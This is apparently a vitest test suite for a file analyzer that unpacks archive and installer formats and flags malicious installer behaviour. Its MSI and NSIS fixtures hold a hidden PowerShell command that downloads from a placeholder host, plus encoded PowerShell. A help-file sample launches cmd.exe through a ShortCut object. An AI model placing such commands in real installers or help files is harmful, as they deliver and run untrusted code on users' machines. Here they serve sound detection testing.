import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { makePe } from '../executable/program-samples.ts'
import { knownContainers, nameOfUnread } from '../formats/known-containers.ts'
import { makeZip } from '../formats/zip-sample.ts'
import { damagedFile } from '../kit/damaged-files.ts'
import { reportOf, runAnalyzer } from '../kit/try.ts'
import { analyzer } from './analyzer.ts'
import {
  makeCpio,
  makeHelp,
  makeKwaj,
  makeMsi,
  makeNsis,
  makeSzdd,
  makeUu,
  type SamplePackage,
} from './container-samples.ts'

const open = (file: Buffer, filename = 'sample.bin') =>
  reportOf(analyzer, { dataType: 'file', file, filename })

const ids = ({ full }: { full: Record<string, unknown> }) =>
  ((full.findings ?? []) as { id: string }[]).map(({ id }) => id)

const text = Buffer.from('hello world, '.repeat(30))
const setup = (overlay: Buffer) => makePe({ overlay })
const lzma = Buffer.from('XQAAgAD//////////wA0GUnujekXiTozYAX3z2T/+3ggAA==', 'base64')

const someFile: SamplePackage['tables'] = {
  File: { columns: ['File*', 'FileName*'], rows: [['a', 'a.exe']] },
}

const forms: readonly (readonly [form: string, file: Buffer, filename: string, member: string])[] =
  [
    ['cpio', makeCpio({ 'a.txt': text }), 'a.cpio', 'a.txt'],
    ['cpio', makeCpio({ 'a.txt': text }, true), 'a.cpio', 'a.txt'],
    ['szdd', makeSzdd(text), 'SETUP.EX_', 'SETUP.EXe'],
    ['kwaj', makeKwaj(text, 'README', 'TXT'), 'a.bin', 'README.TXT'],
    ['uu', makeUu('a.txt', text), 'a.uue', 'a.txt'],
    ['nsis', setup(makeNsis({ 'a.txt': text })), 'setup.exe', 'a.txt'],
    ['nsis', setup(makeNsis({ 'a.txt': text }, [], true)), 'setup.exe', 'a.txt'],
    ['chm', makeHelp({ 'a.htm': text.toString() }), 'a.chm', 'a.htm'],
    ['chm', makeHelp({ 'a.htm': text.toString() }, true), 'a.chm', 'a.htm'],
    ['msi', makeMsi({ tables: someFile, streams: { 'Binary.a': text } }), 'a.msi', 'Binary.a'],
  ]

describe('members become files', () => {
  it.each(forms)('of %s', async (form, file, filename, member) => {
    const report = await open(file, filename)
    expect(report.full).toMatchObject({ isArchive: true, form })
    expect(report.full.incomplete).toBeUndefined()
    expect(report.files[member]).toEqual(text)
  })

  it('of LZMA that is packed alone', async () => {
    const { files } = await open(lzma, 'a.txt.lzma')
    expect(files['a.txt']?.toString()).toBe('hello world')
  })

  it('of an archive behind a program that unpacks it', async () => {
    const report = await open(makePe({ overlay: makeZip({ 'a.txt': text }) }), 'setup.exe')
    expect(report.files['a.txt']).toEqual(text)
  })
})

it.each(forms)('damage to %s gives a report, wherever it is', async (_, sound, filename) => {
  await fc.assert(
    fc.asyncProperty(damagedFile(sound, { isOftenWhole: true }), async (file) => {
      const report = await runAnalyzer(analyzer, { dataType: 'file', file, filename })
      expect(report).toMatchObject({ success: true })
    }),
    { numRuns: 40 },
  )
})

it.each(forms)('%s that is cut off is reported', async (form, sound, filename) => {
  // Behind its last byte there is room in cpio, and tables in an installer of Windows.
  const cut = form === 'cpio' ? 800 : form === 'msi' ? 1200 : 20
  const end = sound.length - cut
  const { full } = await open(sound.subarray(0, end), filename)
  expect(full.incomplete).toContainEqual(expect.any(String))
})

describe('a container that is known and not opened', () => {
  it.each(
    knownContainers.flatMap(({ form, name, marks }) =>
      marks.map((row, at) => [form, at, name, row] as const),
    ),
  )('%s (%s) is named as such, never passed over', async (form, _, name, row) => {
    const file = Buffer.alloc(4096, 0x11)
    for (const [at, bytes] of row) file.write(bytes, at, 'latin1')
    const { full } = await open(file)
    expect(full).toMatchObject({ isArchive: true, form })
    expect(full.incomplete).toEqual([expect.stringContaining(name)])
  })

  it.each([
    ['binhex', '(This file must be converted with BinHex 4.0)\r\n:#'],
    ['yenc', '=ybegin line=128 size=100 name=a.bin\r\n'],
    ['nrg', Buffer.concat([Buffer.alloc(2048, 1), Buffer.from('NER5'), Buffer.alloc(8)])],
    [
      'pyinstaller',
      makePe({ overlay: Buffer.from('some data MEI\x0c\x0b\x0a\x0b\x0e', 'latin1') }),
    ],
  ])('%s, known by other means, is named too', async (form, file) => {
    const { full } = await open(Buffer.from(file))
    expect(full.form).toBe(form)
    expect(full.incomplete).toEqual([expect.stringContaining(String(nameOfUnread(form)))])
  })
})

const actions = (...rows: [string, number, string, string][]): SamplePackage['tables'] => ({
  CustomAction: { columns: ['Action*', 'Type', 'Source*', 'Target*'], rows },
  InstallExecuteSequence: {
    columns: ['Action*', 'Condition*', 'Sequence'],
    rows: [['InstallFiles', '', 4000]],
  },
})

describe('an installer', () => {
  it('that runs PowerShell to download is flagged, and its commands become files', async () => {
    const command = 'powershell.exe -w hidden -c "iwr http://files.example.test/a"'
    const file = makeMsi({
      tables: { ...actions(['Run', 3106, 'TARGETDIR', command]), ...someFile },
    })
    const report = await open(file, 'a.msi')
    expect(ids(report)).toContain('archive.installer-command')
    expect(report.files['CustomAction/Run.cmd']?.toString()).toBe(command)
  })

  it.each([
    ['in a property that an action of a library runs', 51],
    ['behind a property', 50],
  ])('is flagged where the command stands %s', async (_, type) => {
    const command = `powershell -enc ${'QQBBAEEAQQBBAEEA'.repeat(3)}`
    const file = makeMsi({
      tables: {
        ...actions(['Run', type, 'CMD', type === 50 ? '-enc QQBBAEEAQQBBAEEAQQBB' : command]),
        ...someFile,
        Property: { columns: ['Property*', 'Value*'], rows: [['CMD', 'powershell.exe']] },
      },
    })
    expect(ids(await open(file, 'a.msi'))).toContain('archive.installer-command')
  })

  it('that installs nothing and runs a program is flagged, unless it is signed', async () => {
    const tables = actions(['Run', 2, 'Helper', ''])
    expect(ids(await open(makeMsi({ tables }), 'a.msi'))).toContain('archive.installer-only-runs')
    const signed = await open(makeMsi({ tables, isSigned: true }), 'a.msi')
    expect(signed.full.verdict).toBe('info')
  })

  it.each([
    ['netsh', ['Rule', 3106, 'TARGETDIR', 'netsh.exe advfirewall firewall add rule name=x']],
    ['a program of its own', ['Run', 2, 'Helper', '/quiet']],
    ['a script of its own', ['Run', 3106, 'TARGETDIR', 'powershell.exe -File "[TARGETDIR]a.ps1"']],
    ['a property', ['Set', 51, 'ARPHELPLINK', 'https://www.example.org/']],
  ] as [string, [string, number, string, string]][])(
    'with files that runs %s is ordinary',
    async (_, row) => {
      const { full } = await open(makeMsi({ tables: { ...actions(row), ...someFile } }), 'a.msi')
      expect(full.verdict).toBe('info')
    },
  )

  it('with an appended archive is reported', async () => {
    const file = Buffer.concat([makeMsi({ tables: someFile }), makeZip({ 'A.class': 'x' })])
    const report = await open(file, 'a.msi')
    expect(ids(report)).toContain('archive.two-in-one')
    expect(report.files['A.class']?.toString()).toBe('x')
  })

  it('made with NSIS shows the command that downloads', async () => {
    const script = ['powershell.exe -w hidden -c "iwr http://files.example.test/a"']
    const report = await open(setup(makeNsis({ 'a.txt': text }, script)), 'setup.exe')
    expect(ids(report)).toContain('archive.installer-command')
    const ordinary = ['https://www.example.org/', '$INSTDIR\\app.exe', 'regsvr32 /s "$0"']
    const other = await open(setup(makeNsis({ 'a.txt': text }, ordinary)), 'setup.exe')
    expect(other.full.verdict).toBe('info')
    expect(other.files['texts.txt']?.toString()).toContain('app.exe')
  })
})

describe('a help file', () => {
  const page = (item: string) =>
    `<object type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><param name="Command" value="ShortCut"><param name="Item1" value="${item}"></object>`

  it.each([false, true])('that starts a program is flagged (packed: %s)', async (isPacked) => {
    const report = await open(makeHelp({ 'a.htm': page(',cmd.exe,/c echo') }, isPacked), 'a.chm')
    expect(ids(report)).toContain('archive.help-command')
  })

  it.each([
    ['a link to another page', page(',notepad.exe,a.txt')],
    ['related topics', page('a;b.htm').replace('ShortCut', 'Related Topics')],
    ['text about it', '<p>value="ShortCut" starts cmd.exe</p>'],
  ])('with %s is ordinary', async (_, content) => {
    expect((await open(makeHelp({ 'a.htm': content }), 'a.chm')).full.verdict).not.toBe(
      'suspicious',
    )
  })
})
